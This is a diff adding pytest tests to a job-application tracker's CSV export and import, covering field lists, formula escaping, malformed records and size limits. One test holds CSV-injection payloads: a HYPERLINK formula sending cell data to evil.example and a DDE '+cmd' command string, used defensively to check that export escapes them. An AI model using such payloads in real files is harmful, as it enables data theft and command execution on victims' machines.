@@ -10,7 +10,7 @@ from typing import Any
 import pytest
 from chalice.test import Client
 
-from chalicelib import transfer
+from chalicelib import models, transfer
 from local_google.issuer import GoogleIssuer
 from tests.conftest import ALLOWED, RICH_APPLICATION, body, sign_in
 from tests.test_applications import Api, api_for, create
@@ -112,6 +112,17 @@ def test_export_format_must_be_json_or_csv(person: Person) -> None:
     assert response.status_code == 400 and body(response)["field"] == "fmt"
 
 
+def test_the_field_lists_agree() -> None:
+    # The CSV export is an application as the API returns it, less its version.
+    assert set(transfer.CSV_COLUMNS) == set(models.OUTPUT_ORDER) - {"version"}
+    # The import reads back every column but what the server keeps (id and times are the new account's) ...
+    assert set(transfer.CSV_COLUMNS) - set(transfer.IMPORT_COLUMNS) == {"id", "created_at", "updated_at"}
+    # ... that is, every field a person fills in, and the status history.
+    assert set(transfer.IMPORT_COLUMNS) == set(models.ApplicationData.model_fields) | {"status_history"}
+    # Each field is read first from its own export column's name.
+    assert all(aliases[0] == name.replace("_", " ") for name, aliases in transfer.IMPORT_COLUMNS.items())
+
+
 # ---- round trip -------------------------------------------------------------------------------------
 
 
@@ -122,7 +133,7 @@ def test_export_then_import_into_a_new_account_reproduces_the_applications(perso
     create(person.api, company="Gamma", role="SRE", status="wishlist")
     exported = person.api("GET", "/api/export?format=csv").body
     assert other.imported(exported)["created"] == 3
-    kept = ("company", "role", "status", *transfer.CSV_COLUMNS[4:16], "status_history")
+    kept = tuple(transfer.IMPORT_COLUMNS)  # every column the import reads back (test_the_field_lists_agree)
 
     def comparable(apps: list[dict[str, Any]]) -> list[dict[str, Any]]:
         out = []
@@ -135,6 +146,24 @@ def test_export_then_import_into_a_new_account_reproduces_the_applications(perso
     assert comparable(other.applications()) == comparable(person.applications())
     again = other.imported(exported)
     assert (again["created"], again["duplicates"], again["errors"]) == (0, 3, [])
+
+
+def test_csv_export_writes_formulas_as_text_and_the_import_reads_them_back(person: Person, other: Person) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"x")'
+    create(person.api, company=formula, role="+cmd|' /C calc'!A0", notes="@SUM(1+1)", tags=["-2+3"])
+    exported = person.api("GET", "/api/export?format=csv")
+    assert exported.status_code == 200
+    [row] = list(csv.DictReader(io.StringIO(exported.body.decode())))
+    assert row["company"] == "'" + formula
+    assert (row["role"], row["notes"], row["tags"]) == ("'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3")
+    assert other.imported(exported.body)["created"] == 1
+    [app] = other.applications()
+    assert (app["company"], app["role"], app["notes"], app["tags"]) == (
+        formula,
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        ["-2+3"],
+    )
 
 
 # ---- in: messy files from other tools ------------------------------------------------------------------
@@ -221,6 +250,23 @@ def test_files_that_cannot_be_imported_get_a_4xx_naming_why(person: Person) -> N
     assert bad_flag.status_code == 400 and body(bad_flag)["field"] == "dry_run"
     anonymous = person.client.http.post("/api/import", headers={"Content-Type": "text/csv"}, body=b"company,role\n")
     assert anonymous.status_code == 401
+
+
+def test_a_malformed_record_refuses_the_whole_file_and_stores_nothing(person: Person) -> None:
+    huge = "x" * (140 * 1024)  # past csv.field_size_limit (128 KB)
+    response = person.upload(f"company,role,notes\nA,Engineer,\nB,Engineer,{huge}\nE,Engineer,\n")
+    assert response.status_code == 400
+    assert body(response)["field"] == "body" and "Line 3 is not valid CSV" in body(response)["message"]
+    assert person.applications() == []
+
+
+def test_a_header_past_200_columns_is_refused_and_ignored_columns_are_listed_once(person: Person) -> None:
+    wide = person.upload("company,role," + ",".join(["a"] * 199) + "\nAcme,Engineer\n")
+    assert wide.status_code == 400
+    assert body(wide)["field"] == "body" and "limit of 200" in body(wide)["message"]
+    assert person.applications() == []
+    at_limit = person.imported("company,role," + ",".join(["a", "B", "a"] * 66) + "\nAcme,Engineer\n")
+    assert (at_limit["created"], at_limit["ignored_columns"]) == (1, ["a", "B"])
 
 
 def test_limits_5000_rows_and_5_mb_answer_413_naming_the_limit(person: Person) -> None:
